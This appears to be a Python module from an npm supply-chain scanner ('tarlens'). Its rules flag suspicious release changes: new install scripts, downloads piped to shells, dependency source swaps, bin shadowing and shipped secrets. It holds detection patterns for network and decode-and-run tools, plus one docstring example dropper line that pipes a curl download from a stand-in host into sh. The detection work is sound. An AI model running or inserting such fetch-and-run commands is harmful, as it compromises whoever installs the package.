"""Built-in rules that judge a release against the previous one, and release hygiene.

"Has an install script" is not suspicious in itself; "gained one in a patch release" is
(INCIDENTS.md). These rules look at the :class:`~tarlens.ReleaseDiff`; they are skipped,
and reported as skipped, when no previous release is given.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from tarlens._anomaly import AnomalyKind
from tarlens._diff import ChangeStatus, ReleaseDiff
from tarlens._engine import Confidence, Evidence, Release, Severity, rule
from tarlens._manifest import SECRET_FILE, ScriptWhen
from tarlens._npa import SourceType, SpecType, semver_valid

__all__: list[str] = []  # private module: rules register themselves on import

#: a command that fetches something from the network itself
_DOWNLOAD = re.compile(
    r"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|certutil|bitsadmin|"
    r"Start-BitsTransfer|DownloadString|DownloadFile)\b|https?://|\bftp://",
    re.IGNORECASE,
)
#: output thrown away or a process detached: the user sees nothing of what runs
_HIDDEN = re.compile(
    r">\s*/dev/null|&>\s*/dev/null|2>&1\s*>?\s*(?:/dev/null|nul)\b|>\s*nul\b|\bnohup\b|"
    r"\bstart\s+/b\b|-WindowStyle\s+Hidden|\bsetsid\b|\bdisown\b|&\s*$",
    re.IGNORECASE,
)
#: run code given inline, decoded or piped to an interpreter
_INLINE_EXEC = re.compile(
    r"(?<!\|)\|(?!\|)\s*(?:(?:ba|z|da)?sh|node|python3?|perl|ruby|iex)(?![\w-])|"
    r"\bpowershell(?:\.exe)?\b.*-e(?:nc(?:odedcommand)?)?\b|\bbase64\s+(?:-d|--decode)\b|"
    r"\beval\b",
    re.IGNORECASE,
)
_PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "corepack", "bun", "node"})
_COMMON_COMMANDS = frozenset(
    {
        "node",
        "npm",
        "npx",
        "pnpm",
        "yarn",
        "corepack",
        "git",
        "sh",
        "bash",
        "zsh",
        "dash",
        "ls",
        "cp",
        "mv",
        "rm",
        "cat",
        "echo",
        "env",
        "sudo",
        "su",
        "curl",
        "wget",
        "ssh",
        "scp",
        "python",
        "python3",
        "pip",
        "pip3",
        "ruby",
        "perl",
        "make",
        "gcc",
        "cc",
        "ld",
        "tar",
        "gzip",
        "unzip",
        "chmod",
        "chown",
        "kill",
        "ps",
        "docker",
        "kubectl",
        "aws",
        "gcloud",
        "az",
        "code",
        "vim",
        "nano",
        "less",
        "more",
        "open",
        "start",
        "cmd",
        "powershell",
        "pwsh",
        "where",
        "which",
        "test",
        "true",
        "false",
    }
)


def _diff(release: Release) -> ReleaseDiff:
    assert release.diff is not None  # the engine skips these rules without a previous release
    return release.diff


def _version(v: str | None) -> tuple[int, int, int, tuple[str, ...]] | None:
    clean = semver_valid(v or "", loose=True)
    if clean is None:
        return None
    core, _, pre = clean.partition("-")
    major, minor, patch = (int(x) for x in core.split("+")[0].split("."))
    return major, minor, patch, tuple(pre.split(".")) if pre else ()


def _sibling(package: str | None, dependency: str) -> bool:
    """``@esbuild/netbsd-arm64`` for ``esbuild``, ``@swc/core-linux-x64-gnu`` for
    ``@swc/core``: the same project's own packages, in its own scope."""
    if not package or not dependency.startswith("@"):
        return False
    scope = dependency.split("/", 1)[0]
    if package.startswith("@"):
        return package.split("/", 1)[0] == scope
    return scope[1:] == package or package.startswith(scope[1:] + "-")


def _patch_release(d: ReleaseDiff) -> bool:
    a, b = _version(d.old.version), _version(d.new.version)
    return a is not None and b is not None and a[:2] == b[:2] and b[2] >= a[2]


def _precedence(v: tuple[int, int, int, tuple[str, ...]]) -> tuple[object, ...]:
    pre = v[3]
    # a release without prerelease tags ranks above its prereleases; numeric ids below text
    ids = tuple((0, int(x), "") if x.isdigit() else (1, 0, x) for x in pre)
    return (v[0], v[1], v[2], 1 if not pre else 0, ids)


# -- install-time code -------------------------------------------------------------------


@rule(
    id="SCR010",
    name="install-script-added",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=506,
    needs_previous=True,
)
def install_script_added(release: Release) -> Iterator[Evidence]:
    """The release gains an install-time script; *critical* when it runs a file this release
    adds or changes.

    ## What it does
    Reports ``preinstall``/``install``/``postinstall`` scripts (and npm's implicit
    ``node-gyp rebuild``) that the previous release did not have.

    ## Why is this risky
    Gaining an install script is the most common shape of npm compromises (eslint-scope,
    ua-parser-js, coa, rc, nx, Shai-Hulud): the new script runs on every consumer's machine
    at install, usually through a new file nobody reviewed.

    ## Example
    1.4.0 had no scripts; 1.4.1 adds ``"postinstall": "node lib/telemetry.js"`` and the file.
    """
    for s in _diff(release).scripts:
        if s.install_time and s.old is None and s.new is not None:
            sev = Severity.CRITICAL if s.runs_changed_files else None
            runs = (
                f", running {', '.join(s.runs_changed_files)} (new or changed)"
                if (s.runs_changed_files)
                else ""
            )
            yield Evidence(
                f"new {s.event} script: {s.new}{runs}", path="package.json", severity=sev
            )


@rule(
    id="SCR011",
    name="install-script-changed",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=506,
    needs_previous=True,
)
def install_script_changed(release: Release) -> Iterator[Evidence]:
    """An existing install-time script runs something else; *critical* when that is a file
    this release adds or changes.

    ## What it does
    Reports install-time scripts whose command changed since the previous release.

    ## Why is this risky
    Rewriting a long-standing ``postinstall`` is as good as adding one, and harder to notice.

    ## Example
    ``"postinstall": "node check.js"`` becomes ``"node check.js && node .cache/x.js"``.
    """
    for s in _diff(release).scripts:
        if s.install_time and s.old is not None and s.new is not None and s.old != s.new:
            sev = Severity.CRITICAL if s.runs_changed_files else None
            yield Evidence(f"{s.event}: {s.old!r} -> {s.new!r}", path="package.json", severity=sev)


@rule(
    id="SCR012",
    name="install-script-file-changed",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    cwe=506,
    needs_previous=True,
)
def install_script_file_changed(release: Release) -> Iterator[Evidence]:
    """An unchanged install script runs a file that this release changes.

    ## What it does
    Reports files run by an unchanged install-time command whose bytes changed.

    ## Why is this risky
    The command looks the same in ``package.json`` while what it runs is new; the file's
    diff deserves a read before approval.

    ## Example
    ``"postinstall": "node install.js"`` in both releases, ``install.js`` modified.
    """
    for s in _diff(release).scripts:
        if s.install_time and s.old == s.new and s.runs_changed_files:
            for path in s.runs_changed_files:
                yield Evidence(f"{s.event} runs {path}, which changed in this release", path=path)


@rule(
    id="SCR013",
    name="install-script-downloads-or-hides",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=494,
)
def install_script_downloads_or_hides(release: Release) -> Iterator[Evidence]:
    """An install-time command downloads, runs inline code or hides its output; *critical*
    when the command is new in this release.

    ## What it does
    Looks at install-time commands (own and bundled packages') for network fetches
    (``curl``, ``wget``, URLs, PowerShell web cmdlets), code run inline or piped to an
    interpreter (``| sh``, ``node -e``, ``powershell -enc``, ``base64 -d``, ``eval``) and
    output thrown away or detached processes (``> /dev/null 2>&1``, ``nohup``, ``&``).

    ## Why is this risky
    Legitimate installers run a file that ships in the package (``node install.js``,
    ``prebuild-install``); fetching and running code straight from the command line, out
    of sight, is how droppers work. *Medium* when the command only hides its output, *low*
    when it is unchanged since the previous release.

    ## Example
    ``"preinstall": "curl -s https://x.example/i.sh | sh > /dev/null 2>&1 &"``
    """
    new_commands: set[tuple[str, str]] = set()
    if release.diff is not None:
        new_commands = {(s.event, s.new) for s in release.diff.scripts if s.new and s.new != s.old}
    m = release.manifest
    commands = [("", s) for s in m.install_scripts] + [
        (f"{b.path} ", s) for b in m.bundled for s in b.scripts
    ]
    previous = (
        {(s.event, s.command) for s in release.previous.install_scripts}
        if (release.previous is not None)
        else set()
    )
    for prefix, s in commands:
        traits = [
            name
            for name, rx in (
                ("downloads", _DOWNLOAD),
                ("runs inline code", _INLINE_EXEC),
                ("hides its output", _HIDDEN),
            )
            if rx.search(s.command)
        ]
        if not traits:
            continue
        fresh = release.diff is not None and not prefix and (s.event, s.command) in new_commands
        if fresh:
            sev: Severity | None = Severity.CRITICAL
        elif not prefix and (s.event, s.command) in previous:
            sev = Severity.LOW  # long-standing and unchanged (yarn's silenced preinstall)
        elif traits == ["hides its output"]:
            sev = Severity.MEDIUM
        else:
            sev = None
        yield Evidence(
            f"{prefix}{s.event} {' and '.join(traits)}: {s.command}",
            path="package.json" if not prefix else f"{prefix.strip()}/package.json",
            severity=sev,
        )


@rule(
    id="SCR014",
    name="node-gyp-build-added",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=506,
    needs_previous=True,
)
def node_gyp_build_added(release: Release) -> Iterator[Evidence]:
    """A new ``binding.gyp`` makes npm run ``node-gyp rebuild`` at install.

    ## What it does
    Reports the implicit install script appearing because ``binding.gyp`` was added (or
    because the explicit install scripts that suppressed it were removed).

    ## Why is this risky
    The build runs commands from the gyp file on every consumer's machine, with no script
    visible in ``package.json``.

    ## Example
    1.0.0 has no ``binding.gyp``; 1.0.1 ships one that runs ``<!(curl …)``.
    """
    old = {(s.event, s.implicit) for s in _diff(release).old.scripts}
    for s in release.manifest.scripts:
        if s.implicit and s.when is ScriptWhen.INSTALL and (s.event, True) not in old:
            yield Evidence(
                "binding.gyp now makes npm run `node-gyp rebuild` at install", path="binding.gyp"
            )


# -- dependencies ------------------------------------------------------------------------


@rule(
    id="DEP010",
    name="dependency-added",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    cwe=829,
    needs_previous=True,
)
def dependency_added(release: Release) -> Iterator[Evidence]:
    """The release adds a dependency that consumers install.

    ## What it does
    Reports names new in ``dependencies``, ``optionalDependencies`` or
    ``peerDependencies``. *High* in a patch release when the new dependency is not from the
    registry or when code in this release requires it; *low* for the project's own scoped
    packages (``@esbuild/*`` for esbuild, a scope it already depends on).

    ## Why is this risky
    A new dependency is new code from someone else, installed everywhere this package is
    (event-stream + flatmap-stream, axios + plain-crypto-js, node-ipc + peacenotwar).

    ## Example
    1.14.0 → 1.14.1 adds ``"plain-crypto-js": "^4.2.1"``.
    """
    d = _diff(release)
    patch = _patch_release(d)
    present_before = {c.name for c in d.old.dependencies if c.installed_by_consumers}
    scopes_before = {n.split("/", 1)[0] for n in present_before if n.startswith("@")}
    required = {spec for c in d.files if c.text for spec in c.text.added_requires}
    for c in d.dependencies:
        if c.new is None or c.old is not None or c.field in ("devDependencies", "overrides"):
            continue
        if c.name in present_before:
            continue  # moved between fields, not new code
        registry = c.new.source is SourceType.REGISTRY
        used = any(spec == c.name or spec.startswith(c.name + "/") for spec in required)
        sev: Severity | None = None
        if (patch and not registry) or used:
            sev = Severity.HIGH
        elif registry and (
            _sibling(d.new.name, c.name) or c.name.split("/", 1)[0] in scopes_before
        ):
            sev = Severity.LOW  # the project's own platform packages (@esbuild/*, @img/*)
        where = " in a patch release" if patch else ""
        if used:
            where += ", and code in this release now requires it"
        yield Evidence(
            f"new {c.field}.{c.name} = {c.new.raw!r} ({c.new.type}){where}",
            path="package.json",
            severity=sev,
        )


@rule(
    id="DEP011",
    name="dependency-source-changed",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=829,
    needs_previous=True,
)
def dependency_source_changed(release: Release) -> Iterator[Evidence]:
    """An existing dependency moves from the registry to git, a URL, a file or a directory.

    ## What it does
    Reports dependencies whose spec changed source type, away from the registry.

    ## Why is this risky
    The same name now fetches mutable code from outside the registry's audit trail, often a
    fork under the attacker's control; git specs also run ``prepare`` on install.

    ## Example
    ``"ms": "^2.1.3"`` becomes ``"ms": "github:someone/ms#main"``.
    """
    for c in _diff(release).dependencies:
        if (
            c.old is not None
            and c.new is not None
            and c.old.source is SourceType.REGISTRY
            and c.new.source not in (SourceType.REGISTRY, SourceType.INVALID)
            and c.field not in ("devDependencies", "overrides")
        ):
            yield Evidence(
                f"{c.field}.{c.name}: {c.old.raw!r} -> {c.new.raw!r} ({c.new.source})",
                path="package.json",
            )


_UNBOUNDED = re.compile(r"\A\s*(?:\*|x|X|latest|>=?\s*[\w.]+)\s*\Z")


@rule(
    id="DEP012",
    name="dependency-range-widened",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    cwe=1357,
    needs_previous=True,
)
def dependency_range_widened(release: Release) -> Iterator[Evidence]:
    """A bounded dependency range becomes unbounded (``*``, ``latest``, ``>=x``).

    ## What it does
    Reports dependency specs that used to pin a range and now accept any future version.

    ## Why is this risky
    Whoever publishes the next version of that dependency (say, after taking over its
    maintainer's account) is installed automatically.

    ## Example
    ``"left-pad": "^1.3.0"`` becomes ``"left-pad": "*"``.
    """
    for c in _diff(release).dependencies:
        if (
            c.old is not None
            and c.new is not None
            and c.field != "devDependencies"
            and c.new.type in (SpecType.RANGE, SpecType.TAG)
            and _UNBOUNDED.match(c.new.raw or "*")
            and not _UNBOUNDED.match(c.old.raw or "*")
        ):
            yield Evidence(
                f"{c.field}.{c.name}: {c.old.raw!r} -> {c.new.raw!r}", path="package.json"
            )


@rule(
    id="DEP013",
    name="bundled-code-with-install-scripts",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=506,
    needs_previous=True,
)
def bundled_code_with_install_scripts(release: Release) -> Iterator[Evidence]:
    """A new or changed bundled package or shrinkwrap entry brings install scripts or a
    non-registry source.

    ## What it does
    Reports bundled packages (``node_modules/`` inside the tarball) added or changed with
    install-time scripts, and shrinkwrap entries added or changed with
    ``hasInstallScript`` or a git/remote/file source.

    ## Why is this risky
    Bundled code and a published shrinkwrap bypass every dependency review: what they pin is
    installed as is.

    ## Example
    A new ``node_modules/helper`` whose ``package.json`` has ``"preinstall": "node x.js"``.
    """
    d = _diff(release)
    for b in d.bundled:
        if (
            b.new is not None
            and b.new.scripts
            and (b.old is None or b.old.scripts != b.new.scripts)
        ):
            scripts = "; ".join(f"{s.event}: {s.command}" for s in b.new.scripts)
            yield Evidence(
                f"{b.status} bundled {b.path} runs {scripts}", path=f"{b.path}/package.json"
            )
    for e in d.shrinkwrap:
        if e.status is ChangeStatus.REMOVED:
            continue
        risky_source = e.new_source not in (None, SourceType.REGISTRY)
        if e.has_install_script or risky_source:
            what = []
            if e.has_install_script:
                what.append("has install scripts")
            if risky_source:
                what.append(f"resolves to {e.new_resolved!r} ({e.new_source})")
            yield Evidence(
                f"{e.status} shrinkwrap entry {e.path} {' and '.join(what)}",
                path="npm-shrinkwrap.json",
            )


# -- the archive and the package as a whole ------------------------------------------------


@rule(
    id="ARC040",
    name="packing-changed",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    cwe=345,
    needs_previous=True,
)
def packing_changed(release: Release) -> Iterator[Evidence]:
    """The release was packed differently from the previous one.

    ## What it does
    Compares the packing fingerprint (compression, gzip header, tar format, owners, mtimes,
    top-level directories, directory entries) with the previous release's.

    ## Why is this risky
    ``npm pack`` output is very regular; a release packed by something else was built by
    someone or something else, outside the usual pipeline.

    ## Example
    Every previous release had gzip OS byte 255 and mtime 1985-10-26; this one has the build
    machine's timestamps and user names.
    """
    # the gzip header's OS and XFL bytes follow the publisher's Node.js/zlib, not the tool
    changes = [c for c in _diff(release).packing if not c.startswith("gzip header")]
    if changes:
        yield Evidence("packed differently from the previous release: " + "; ".join(changes))


@rule(
    id="COD001",
    name="mass-deletion",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=1068,
    needs_previous=True,
)
def mass_deletion(release: Release) -> Iterator[Evidence]:
    """The release drops or empties most of the previous release.

    ## What it does
    Reports releases where half of the previous files are gone or emptied, or the
    installed size fell by more than 80 %.

    ## Why is this risky
    Maintainer sabotage looks like this (faker 6.6.6 replaced the library with a stub), and
    every consumer on a caret range receives it.

    ## Example
    1.2.3 ships 200 files in ``lib/``; 1.2.4 ships ``index.js`` and a README.
    """
    d = _diff(release)
    if d.mass_deletion:
        yield Evidence(
            f"{d.sizes.old_files} -> {d.sizes.new_files} files, "
            f"{d.sizes.old_bytes} -> {d.sizes.new_bytes} bytes installed"
        )


@rule(
    id="PKG020",
    name="version-not-greater",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    needs_previous=True,
)
def version_not_greater(release: Release) -> Iterator[Evidence]:
    """The new version does not sort after the previous one.

    ## What it does
    Compares the two versions with SemVer precedence.

    ## Why is this risky
    The registry refuses to republish a version, so a staged release whose version is not
    greater is either a mistake or a release aimed at an older line that consumers on that
    line pick up (sometimes years after the line went quiet).

    ## Example
    Previous ``2.4.0``, staged ``2.3.9``.
    """
    d = _diff(release)
    a, b = _version(d.old.version), _version(d.new.version)
    if a is None or b is None:
        if d.new.version is not None and b is None:
            yield Evidence(f"version {d.new.version!r} is not valid SemVer", path="package.json")
        return
    if _precedence(b) <= _precedence(a):
        yield Evidence(
            f"version {d.new.version} does not sort after {d.old.version}", path="package.json"
        )


@rule(
    id="PKG021",
    name="bin-shadows-command",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=427,
)
def bin_shadows_command(release: Release) -> Iterator[Evidence]:
    """A ``bin`` entry is named like a common command (``node``, ``npm``, ``git``, ``sh``…).

    ## What it does
    Reports bin names that shadow system tools or package managers, unless the package is
    named like the command, is a package manager (``npm`` ships ``npm`` and ``npx``) or
    already provided it in the previous release. *Medium* without a previous release.

    ## Why is this risky
    npm puts ``node_modules/.bin`` first on ``PATH`` for every script of the consuming
    project, so a dependency's ``git`` or ``node`` runs instead of the real one.

    ## Example
    ``"bin": {"node": "dist/wrap.js"}``
    """
    m = release.manifest
    own = (m.name or "").rsplit("/", 1)[-1]
    if own in _PACKAGE_MANAGERS:
        return  # npm ships npm and npx, pnpm ships pnpx, ...
    before = {b.name for b in release.previous.bin} if release.previous else set()
    for b in m.bin:
        name = b.name.lower().removesuffix(".cmd").removesuffix(".exe")
        if name in _COMMON_COMMANDS and name != own and b.name not in before:
            yield Evidence(
                f"bin {b.name!r} -> {b.target} shadows a common command",
                path="package.json",
                # without a previous release we cannot tell a new bin from a long-standing one
                severity=None if release.previous else Severity.MEDIUM,
            )


@rule(
    id="PKG022",
    name="bin-added",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    needs_previous=True,
)
def bin_added(release: Release) -> Iterator[Evidence]:
    """The release adds a command to consumers' ``PATH``.

    ## What it does
    Reports ``bin`` names that the previous release did not have, or whose target changed.

    ## Why is this risky
    A new executable on ``PATH`` runs whenever someone types its name, including from other
    packages' scripts.

    ## Example
    ``"bin": {"helper": "dist/helper.js"}`` appears in a patch release.
    """
    old = {b.name: b.target for b in _diff(release).old.bin}
    for b in release.manifest.bin:
        if old.get(b.name) != b.target:
            what = "new" if b.name not in old else f"retargeted from {old[b.name]!r}"
            yield Evidence(f"{what} bin {b.name!r} -> {b.target}", path="package.json")


# -- hygiene -------------------------------------------------------------------------------

_SECRET_CONTENT = (
    ("an npm token", re.compile(rb"_authToken\s*=\s*\S{8,}|\bnpm_[A-Za-z0-9]{36}\b")),
    ("a private key", re.compile(rb"-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----")),
    ("an AWS access key", re.compile(rb"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b")),
    ("a GitHub token", re.compile(rb"\bgh[pousr]_[A-Za-z0-9]{36,}\b")),
    (
        "a password or secret assignment",
        re.compile(rb"(?im)^\s*[\w.]*(?:password|passwd|secret|api_?key|token)\s*[=:]\s*\S{6,}"),
    ),
)


@rule(
    id="HYG001",
    name="secret-shipped",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=540,
)
def secret_shipped(release: Release) -> Iterator[Evidence]:
    """The tarball ships a credentials file or a secret.

    ## What it does
    Looks at files that commonly hold credentials (``.npmrc``, ``.env``, ``*.pem``, SSH keys,
    ``.git-credentials``, cloud credential files) and reports them, naming what they contain
    (npm tokens, private keys, AWS keys, GitHub tokens, password assignments).

    ## Why is this risky
    A published secret is public forever; an npm token in a tarball lets anyone publish as
    the maintainer, which is how several worms spread.

    ## Example
    ``package/.npmrc`` containing ``//registry.npmjs.org/:_authToken=npm_…``.
    """
    for f in release.manifest.files:
        if not SECRET_FILE.search(f.path):
            continue
        found = [what for what, rx in _SECRET_CONTENT if f.data and rx.search(f.data)]
        if found:
            yield Evidence(
                f"{f.path} contains {', '.join(found)}",
                path=f.path,
                severity=Severity.CRITICAL if "an npm token" in found else None,
            )
        elif f.size:
            yield Evidence(
                f"{f.path} is a credentials-style file ({f.size} bytes, no secret recognised)",
                path=f.path,
                severity=Severity.LOW,
            )


@rule(
    id="ARC041",
    name="archive-anomaly-new",
    severity=Severity.INFO,
    confidence=Confidence.HIGH,
    needs_previous=True,
)
def archive_anomaly_new(release: Release) -> Iterator[Evidence]:
    """An archive or manifest anomaly that the previous release did not have.

    ## What it does
    Lists the anomalies new in this release (the archive rules rate each of them).

    ## Why is this risky
    A trick that appears in one release, after many clean ones, is a signal about how this
    release was built.

    ## Example
    The previous release had no entries after the end marker; this one has one.
    """
    for a in _diff(release).new_anomalies:
        if a.kind not in (AnomalyKind.GITIGNORE, AnomalyKind.NO_EOF_MARKER):
            yield Evidence(f"new {a.kind}: {a.detail}", path=a.path)
